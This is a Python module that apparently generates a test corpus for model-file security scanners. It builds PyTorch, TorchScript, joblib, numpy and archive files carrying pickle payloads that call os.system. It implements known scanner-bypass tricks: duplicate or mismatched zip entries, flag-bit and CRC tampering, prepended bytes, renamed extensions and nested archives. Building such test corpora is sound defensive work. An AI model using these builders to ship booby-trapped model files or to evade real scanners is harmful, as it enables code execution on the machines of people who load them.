"""Malicious PyTorch, joblib, numpy and archive containers, built from bytes."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable

from . import ziptricks
from .malicious_pickle import CMD, JFROG_PS, NULLIFAI, PS_ADV, os_system
from .manifest import Corpus
from .pickle_asm import Call, Global, PersId, dumps

SONATYPE = (
    "https://www.sonatype.com/blog/bypassing-picklescan-sonatype-discovers-four-vulnerabilities"
)
TORCH_SER = "https://pytorch.org/docs/stable/notes/serialization.html"
JOBLIB = "https://joblib.readthedocs.io/en/stable/persistence.html"
NPY = "https://numpy.org/doc/stable/reference/generated/numpy.lib.format.html"
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def evil_call() -> Call:
    return Call(Global("os", "system"), (CMD,))


def tensor(key: str, numel: int) -> Call:
    storage = PersId(("storage", Global("torch", "FloatStorage"), key, "cpu", numel))
    return Call(
        Global("torch._utils", "_rebuild_tensor_v2"),
        (storage, 0, (numel,), (1,), False, Call(Global("collections", "OrderedDict"), ())),
    )


def state_dict_pickle(evil: bool, protocol: int = 2) -> bytes:
    value: dict[object, object] = {"fc.weight": tensor("0", 4), "fc.bias": tensor("1", 2)}
    if evil:
        value["_metadata"] = evil_call()
    return dumps(value, protocol)


def torch_zip_members(pkl: bytes, root: str = "archive") -> list[tuple[str, bytes]]:
    return [
        (f"{root}/data.pkl", pkl),
        (f"{root}/byteorder", b"little"),
        (f"{root}/data/0", struct.pack("<4f", 0.1, 0.2, 0.3, 0.4)),
        (f"{root}/data/1", struct.pack("<2f", 0.0, 1.0)),
        (f"{root}/version", b"3\n"),
        (f"{root}/.data/serialization_id", b"1234567890"),
    ]


def torch_zip(pkl: bytes, extra: Iterable[tuple[str, bytes]] = ()) -> bytes:
    return ziptricks.build([*torch_zip_members(pkl), *extra])


def _torch_zip_variants() -> list[tuple[str, bytes, str, str, str]]:
    evil = state_dict_pickle(True)
    benign = state_dict_pickle(False)
    base = torch_zip(evil)
    dup_members = torch_zip_members(benign)
    return [
        ("model.pt", base, "data.pkl", TORCH_SER, "os.system in data.pkl"),
        (
            "hidden_member.pt",
            torch_zip(benign, [("archive/extra/payload.pkl", os_system(2))]),
            "malicious member not data.pkl",
            SONATYPE,
            "benign data.pkl, evil extra member",
        ),
        (
            "member_txt_extension.pt",
            ziptricks.build(
                [(n.replace("data.pkl", "data.txt"), d) for n, d in torch_zip_members(evil)]
            ),
            "non-standard member extension",
            PS_ADV + "GHSA-769v-p64c-89pr",
            "pickle member named data.txt",
        ),
        (
            "duplicate_names_evil_last.pt",
            ziptricks.build([*dup_members, ("archive/data.pkl", evil)]),
            "duplicate member names",
            SONATYPE,
            "two archive/data.pkl, the second evil",
        ),
        (
            "duplicate_names_evil_first.pt",
            ziptricks.build([("archive/data.pkl", evil), *dup_members]),
            "duplicate member names",
            SONATYPE,
            "two archive/data.pkl, the first evil",
        ),
        (
            "local_central_name_mismatch.pt",
            ziptricks.rename_local(base, "archive/data.pkl", "archive/datap.kl"),
            "local/central name mismatch",
            "https://nvd.nist.gov/vuln/detail/CVE-2025-1944",
            "GHSA-7q5r-7gvp-wc82",
        ),
        (
            "flag_encrypted_0x1.pt",
            ziptricks.set_flag_bits(base, 0x1),
            "zip flag bits",
            "https://nvd.nist.gov/vuln/detail/CVE-2025-1945",
            "GHSA-w8jq-xcqf-f792: bit 0",
        ),
        (
            "flag_patched_0x20.pt",
            ziptricks.set_flag_bits(base, 0x20),
            "zip flag bits",
            "https://nvd.nist.gov/vuln/detail/CVE-2025-1945",
            "bit 5 (patched data)",
        ),
        (
            "flag_strong_0x40.pt",
            ziptricks.set_flag_bits(base, 0x40),
            "zip flag bits",
            "https://nvd.nist.gov/vuln/detail/CVE-2025-1945",
            "bit 6 (strong encryption)",
        ),
        (
            "crc_mismatch.pt",
            ziptricks.corrupt_crc(base),
            "zip CRC mismatch",
            "https://nvd.nist.gov/vuln/detail/CVE-2025-10156",
            JFROG_PS,
        ),
        (
            "prepended_data.pt",
            b"\x89PNG\r\n\x1a\n" + b"\x00" * 120 + base,
            "prepended data",
            SONATYPE,
            "a PNG-like prefix before the zip",
        ),
        (
            "pytorch_model.bin",
            base,
            "renamed extension",
            "https://nvd.nist.gov/vuln/detail/CVE-2025-1889",
            ".bin",
        ),
        (
            "model.ckpt",
            base,
            "renamed extension",
            "https://nvd.nist.gov/vuln/detail/CVE-2025-1889",
            ".ckpt",
        ),
        (
            "weights.txt",
            base,
            "renamed extension",
            "https://nvd.nist.gov/vuln/detail/CVE-2025-1889",
            ".txt",
        ),
        (
            "no_extension",
            base,
            "renamed extension",
            "https://nvd.nist.gov/vuln/detail/CVE-2025-1889",
            "no extension",
        ),
        (
            "plain_pickle_as.bin",
            os_system(2),
            "plain pickle as .bin",
            "https://nvd.nist.gov/vuln/detail/CVE-2025-10155",
            JFROG_PS,
        ),
        (
            "zip_lzma_member.pt",
            ziptricks.build(torch_zip_members(evil), zipfile.ZIP_LZMA),
            "compressed zip member",
            NULLIFAI,
            "LZMA-compressed data.pkl (7z-like packing)",
        ),
    ]


def add_torch(corpus: Corpus) -> None:
    for name, data, technique, ref, note in _torch_zip_variants():
        fmt = "pickle" if name == "plain_pickle_as.bin" else "pytorch-zip"
        corpus.write(
            f"malicious/torch/{name}",
            data,
            format=fmt,
            technique=technique,
            malicious=True,
            reference=ref,
            note=note,
        )
    corpus.write(
        "malicious/torch/legacy_format.pt",
        legacy_torch(evil=True),
        format="pytorch-legacy",
        technique="legacy format",
        malicious=True,
        reference="https://nvd.nist.gov/vuln/detail/CVE-2025-32434",
        note="magic, protocol, sys_info, evil object pickle, storages",
    )
    corpus.write(
        "malicious/torch/legacy_evil_sys_info.pt",
        legacy_torch(evil_sys_info=True),
        format="pytorch-legacy",
        technique="legacy format",
        malicious=True,
        reference=TORCH_SER,
        note="payload in the sys_info pickle",
    )
    corpus.write(
        "malicious/torch/tar_format.pt",
        torch_tar(),
        format="pytorch-tar",
        technique="tar format",
        malicious=True,
        reference=TORCH_SER,
        note="sys_info/pickle/storages tar; payload in 'pickle'",
    )
    corpus.write(
        "malicious/torch/torchscript_constants.pt",
        torchscript(),
        format="torchscript",
        technique="TorchScript constants.pkl",
        malicious=True,
        reference=TORCH_SER,
        note="os.system in constants.pkl",
    )


def legacy_torch(evil: bool = False, evil_sys_info: bool = False) -> bytes:
    sys_info: object = {
        "protocol_version": 1001,
        "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4},
    }
    if evil_sys_info:
        sys_info = evil_call()
    parts = [
        dumps(LEGACY_MAGIC, 2),
        dumps(1001, 2),
        dumps(sys_info, 2),
        state_dict_pickle(evil),
        dumps(["0", "1"], 2),
        struct.pack("<q", 4) + struct.pack("<4f", 0.1, 0.2, 0.3, 0.4),
        struct.pack("<q", 2) + struct.pack("<2f", 0.0, 1.0),
    ]
    return b"".join(parts)


def _tar(members: Iterable[tuple[str, bytes]], mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def torch_tar() -> bytes:
    sys_info = dumps({"protocol_version": 1000, "little_endian": True}, 2)
    return _tar(
        [
            ("sys_info", sys_info),
            ("pickle", state_dict_pickle(True)),
            ("tensors", dumps(0, 2)),
            ("storages", dumps(0, 2)),
        ]
    )


def torchscript() -> bytes:
    code = b"class Model(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    return x\n"
    return ziptricks.build(
        [
            ("model/data.pkl", dumps({"training": False}, 2)),
            ("model/code/__torch__.py", code),
            ("model/constants.pkl", dumps((evil_call(),), 2)),
            ("model/version", b"3\n"),
        ]
    )


JOBLIB_COMPRESSORS = {
    "raw": lambda d: d,
    "zlib": lambda d: zlib.compress(d, 3),
    "gzip": lambda d: gzip.compress(d, 3, mtime=0),
    "bz2": lambda d: bz2.compress(d, 3),
    "lzma": lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE),
    "xz": lambda d: lzma.compress(d, format=lzma.FORMAT_XZ),
}
PLACEHOLDER = "AIWARDEN_BENCH_PLACEHOLDER_0123456789"


def joblib_with_payload(tmp: io.BytesIO | None = None) -> bytes:
    """A real joblib dump (numpy buffers inline), the last value spliced to a payload."""
    import joblib
    import numpy as np

    buffer = tmp or io.BytesIO()
    value = {"coef": np.arange(64, dtype=np.float64), "bias": np.ones(8), "cfg": PLACEHOLDER}
    joblib.dump(value, buffer, protocol=2)
    raw = buffer.getvalue()
    encoded = PLACEHOLDER.encode()
    needle = b"X" + struct.pack("<I", len(encoded)) + encoded
    if raw.count(needle) != 1:
        raise RuntimeError("placeholder not found in joblib stream")
    payload = dumps(evil_call(), 2, frame=False)[2:-1]  # opcodes only
    return raw.replace(needle, payload)


def add_joblib(corpus: Corpus) -> None:
    raw = joblib_with_payload()
    for name, compress in JOBLIB_COMPRESSORS.items():
        corpus.write(
            f"malicious/joblib/model_{name}.joblib",
            compress(raw),
            format="joblib",
            technique=f"joblib {name}",
            malicious=True,
            reference=JOBLIB,
            note="numpy buffers precede the os.system object",
        )
    corpus.write(
        "malicious/joblib/model_zlib.pkl",
        JOBLIB_COMPRESSORS["zlib"](raw),
        format="joblib",
        technique="joblib zlib",
        malicious=True,
        reference=JOBLIB,
        note="compressed joblib under a .pkl name",
    )


def npy(payload: bytes, descr: str = "|O", shape: str = "(1,)") -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}"
    pad = 64 - (10 + len(header) + 1) % 64
    header_bytes = (header + " " * pad + "\n").encode("latin1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header_bytes)) + header_bytes + payload


def add_numpy(corpus: Corpus) -> None:
    evil = npy(os_system(3))
    rows = [
        ("object_array.npy", evil, "npy object array", "npy"),
        ("object_array_renamed.bin", evil, "renamed npy", "npy"),
        (
            "object_arrays.npz",
            ziptricks.build([("w.npy", npy(b"", "<f4", "(0,)")), ("arr_0.npy", evil)]),
            "npz object array",
            "npz",
        ),
        (
            "object_arrays_compressed.npz",
            ziptricks.build([("arr_0.npy", evil)], zipfile.ZIP_DEFLATED),
            "npz object array",
            "npz",
        ),
    ]
    for name, data, technique, fmt in rows:
        corpus.write(
            f"malicious/numpy/{name}",
            data,
            format=fmt,
            technique=technique,
            malicious=True,
            reference=NPY,
            note="pickle payload after an |O header",
        )


def add_archives(corpus: Corpus) -> None:
    evil = os_system(4)
    model = torch_zip(state_dict_pickle(True))
    rows = [
        (
            "evil_pickle.zip",
            ziptricks.build([("model/evil.pkl", evil)], zipfile.ZIP_DEFLATED),
            "zip of pickle",
        ),
        (
            "nested_torch.zip",
            ziptricks.build([("ckpt/pytorch_model.bin", model)]),
            "zip of torch zip",
        ),
        (
            "zip_in_zip.zip",
            ziptricks.build([("inner.zip", ziptricks.build([("a.pkl", evil)]))]),
            "nested zip",
        ),
        (
            "bzip2_member.zip",
            ziptricks.build([("evil.pkl", evil)], zipfile.ZIP_BZIP2),
            "zip of pickle",
        ),
        ("evil_pickle.tar", _tar([("model/evil.pkl", evil)]), "tar of pickle"),
        ("torch_model.tar.gz", _tar([("ckpt/model.pt", model)], "w:gz"), "tar of torch zip"),
        ("npy_in.tar", _tar([("arrays/x.npy", npy(os_system(3)))]), "tar of npy"),
    ]
    for name, data, technique in rows:
        fmt = "tar" if ".tar" in name else "zip"
        corpus.write(
            f"malicious/archives/{name}",
            data,
            format=fmt,
            technique=technique,
            malicious=True,
            reference=SONATYPE,
            note="payload inside an archive",
        )
